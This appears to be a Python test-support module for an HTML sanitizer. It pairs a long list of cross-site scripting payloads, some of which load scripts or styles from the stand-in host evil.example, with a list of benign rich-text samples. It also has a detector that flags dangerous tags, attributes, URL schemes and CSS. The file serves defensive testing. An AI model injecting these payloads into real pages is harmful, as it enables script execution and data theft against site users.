"""Texts from outside: hostile ones, rich ones, and an independent look for what may not remain."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

from turbohtml import Element, parse_fragment

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0b>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">go</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<select><option><script>alert(1)</script></select>",
    "<select><iframe></select><img src=x: onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, /ok.png 2x'>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#0000058alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='filesystem:https://evil.example/1'>x</a>",
    "<a href='view-source:javascript:1'>x</a>",
    "<a href='/x' onmouseover=alert(1) ping='//evil.example'>x</a>",
    "<a style='background:url(javascript:alert(1))'>x</a>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#a)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='background-image:\\75rl(javascript:alert(1))'>x</p>",
    "<p style='list-style:url(//evil.example/x)'>x</p>",
    "<p style='content:url(//evil.example/x)'>x</p>",
    "<p style='cursor:url(//evil.example/x),auto'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='--x:url(//evil.example/x)'>x</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='https://ok.example' sandbox='allow-top-navigation allow-scripts'></iframe>",
    "<iframe></iframe><img src=x onerror=alert(1)></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x poster='javascript:alert(1)'></video>",
    "<audio src='javascript:alert(1)' onloadstart=alert(1)></audio>",
    "<body onload=alert(1) background='javascript:alert(1)'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<div data-x='javascript:alert(1)'>x</div>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "</div></section><script>alert(1)</script>",
    "<p/onclick=alert(1)>x",
    "<x onclick=alert(1) style='x:expression(1)'>x</x>",
]

RICH = [
    "Plain words, nothing more.",
    "Fish &amp; chips, 3 &lt; 5, a no-break&nbsp;space",
    "Grüße, 你好, שלום, 😀",
    "One line<br>and another",
    "<b>Bold</b>, <i>slanted</i>, <u>underlined</u>, <s>struck</s>",
    "<strong>Strong</strong> and <em>stressed</em> with <mark>a mark</mark>",
    "<h1>Title</h1><h2>Subtitle</h2><h3>Part</h3><h4>Detail</h4>",
    "<p>First paragraph.</p><p>Second paragraph.</p>",
    "<ul><li>Bread</li><li>Butter<ul><li>salted</li></ul></li></ul>",
    '<ol start="3" type="a"><li>Third</li><li>Fourth</li></ol>',
    "<dl><dt>Term</dt><dd>What it means</dd></dl>",
    '<a href="https://example.org/path?a=1&amp;b=2#top">A link</a>',
    '<a href="/relative/page.html" target="_blank" rel="noopener">Relative</a>',
    '<a href="#contacts">Anchor</a> and <a href="page:#about">a page of ours</a>',
    '<a href="mailto:a@example.org">Mail</a> <a href="tel:+4930123456">Call</a>',
    '<a href="tg://resolve?domain=example">Chat</a> <a href="whatsapp://send?text=hi">Write</a>',
    '<img src="https://example.org/a.png" alt="A boat" width="300" height="200">',
    '<img src="/files/a.png" srcset="/files/a2.png 2x" alt="" loading="lazy">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="dot">',
    '<p style="color: #c00; font-size: 18px; text-align: center">Coloured</p>',
    "<span style=\"font-family: 'Open Sans', sans-serif; font-weight:700\">Lettered</span>",
    '<p style="margin: 0 auto; padding: calc(1em + 2px); line-height: 1.4">Spaced</p>',
    '<span style="background-color: rgba(0, 0, 0, .5); color: var(--ink)">Shaded</span>',
    "<table><caption>Prices</caption><thead><tr><th>Item</th><th>Price</th></tr></thead></table>",
    '<table class="t"><tbody><tr><td colspan="2">None</td></tr></tbody></table>',
    '<blockquote cite="https://example.org/q">Quoted</blockquote>',
    "<pre>kept   as\n  typed</pre><code>x = 1</code> <kbd>Ctrl</kbd>",
    "H<sub>2</sub>O, x<sup>2</sup>, <small>small print</small>, a<wbr>b",
    '<div class="g-mb-10 text-uppercase" id="offer" lang="en" dir="ltr" title="T">Boxed</div>',
    '<font color="#336699" face="Arial">Old but used</font>',
    '<figure><img src="/a.jpg" alt="x"><figcaption>Caption</figcaption></figure>',
    '<details open=""><summary>More</summary>Hidden words</details>',
    '<span data-tip="{&quot;a&quot;:1}" aria-label="tip" role="note">Noted</span>',
    "<hr><address>Main street 1</address><center>Middle</center>",
    '<abbr title="for example">e.g.</abbr> <time datetime="2026-01-01">New Year</time>',
]

# fmt: off
_ELEMENTS = frozenset({
    "applet", "area", "base", "body", "dialog", "embed", "fencedframe", "form", "frame",
    "frameset", "head", "html", "input", "link", "map", "marquee", "math", "meta", "noscript",
    "object", "param", "plaintext", "portal", "script", "select", "slot", "style", "svg",
    "template", "textarea", "title", "xmp",
})
# fmt: on
# fmt: off
_ATTRIBUTES = frozenset({
    "action", "attributionsrc", "autofocus", "background", "command", "commandfor",
    "contenteditable", "form", "formaction", "http-equiv", "is", "nonce", "part", "ping", "popover",
    "popovertarget", "slot", "srcdoc", "usemap", "xlink:href",
})
# fmt: on
_TEXTUAL = frozenset({"alt", "aria-label", "class", "content", "placeholder", "title"})
_OPENER = re.compile(r"(?<!\S)opener(?!\S)", re.IGNORECASE)
_SCRIPTED = re.compile(
    r"(?:^|,)(?:javascript|vbscript|blob|filesystem|view-source|data:(?!image/(?:png|gif|jpe?g|webp)))"
)
# What is no address to a browser is one to scripts elsewhere, and may name a picture.
_SCRIPTED_DATA = re.compile(r"^(?:(?:javascript|vbscript|livescript):|data:(?!image/))")
_STYLE = re.compile(r"expression|binding|behavior|javascript|@import|(?<!-)position|\\|[<>{}]")
_LOADING = re.compile(r"(?:^|;)(?!\s*background(?:-image)?\s*:)[^;]*url\(", re.IGNORECASE)
# A quoted picture from which nothing can break out: what it says is an address and no style.
_PICTURE = re.compile(r"(?<=url\()'(?!\s*(?:javascript|vbscript|data:text))[^'\"()\\<>]*'(?=\))")
_BLANKS = re.compile(r"[\x00-\x20\x7f-\xa0]+")


def dangers(html: str) -> list[str]:
    """What a browser could run or load in this HTML, read by two parsers; inert HTML has none."""
    return [*_tree_dangers(html), *_tag_dangers(html)]


def _tree_dangers(html: str) -> Iterator[str]:
    for element in parse_fragment(html).iter_elements():
        yield from _of_element(element.tag, _pairs(element))


def _pairs(element: Element) -> list[tuple[str, str]]:
    return [(name, element.attr(name) or "") for name in element.attrs]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += _of_element(tag, [(name, value or "") for name, value in attrs])

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")


def _tag_dangers(html: str) -> list[str]:
    tags = _Tags()
    tags.feed(html)
    tags.close()
    return tags.found


def _of_element(tag: str, attributes: list[tuple[str, str]]) -> Iterator[str]:
    if tag in _ELEMENTS or "-" in tag or ":" in tag:
        yield f"<{tag}>"
    for name, value in attributes:
        if name in _ATTRIBUTES or name.startswith(("on", "xmlns")):
            yield f"{tag}[{name}]"
        # An element with a name takes the place of something of the document's.
        if (name == "name" and tag != "details") or (name == "rel" and _OPENER.search(value)):
            yield f"{tag}[{name}]"
        scripted = _SCRIPTED_DATA if name.startswith("data-") else _SCRIPTED
        if name not in _TEXTUAL and scripted.search(_BLANKS.sub("", value).lower()):
            yield f"{tag}[{name}={value}]"
        style = _PICTURE.sub("", value) if name == "style" else ""
        if _STYLE.search(style.lower()) or _LOADING.search(style):
            yield f"{tag}[style={value}]"
    sandbox = dict(attributes).get("sandbox")
    if tag == "iframe" and (not sandbox or "top-navigation" in sandbox):
        yield "<iframe> without a sandbox"
